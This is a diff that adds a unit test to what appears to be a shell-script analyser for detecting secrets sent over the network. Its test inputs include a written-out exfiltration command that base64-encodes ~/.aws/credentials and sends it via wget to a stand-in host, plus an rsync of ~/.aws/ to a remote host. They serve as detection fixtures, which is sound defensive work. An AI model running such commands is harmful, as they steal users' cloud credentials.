@@ -102,3 +102,11 @@ def test_identity_files_exclusions_and_downloads_are_not_sent() -> None:
         assert not any(SECRET in {s.kind for s in f.carries} for f in facts), line
     sent = shell.analyse("rsync -a ~/.aws/ b@h.example:aws/", "a.sh", 1).facts
     assert any(f.kind == NETWORK_EGRESS and SECRET in {s.kind for s in f.carries} for f in sent)
+
+
+def test_xargs_passes_what_it_reads_as_the_command_arguments() -> None:
+    result = shell.analyse("cat ~/.aws/credentials | base64 -w0 | xargs -I{} wget -q "
+                           "--header='K: {}' https://c.example/hit", "a.sh", 1)
+    sent = [f for f in result.facts if f.kind == "network_egress"]
+    assert sent and sent[0].value == "https://c.example/hit"
+    assert {s.label for s in sent[0].carries} == {"~/.aws/credentials"}
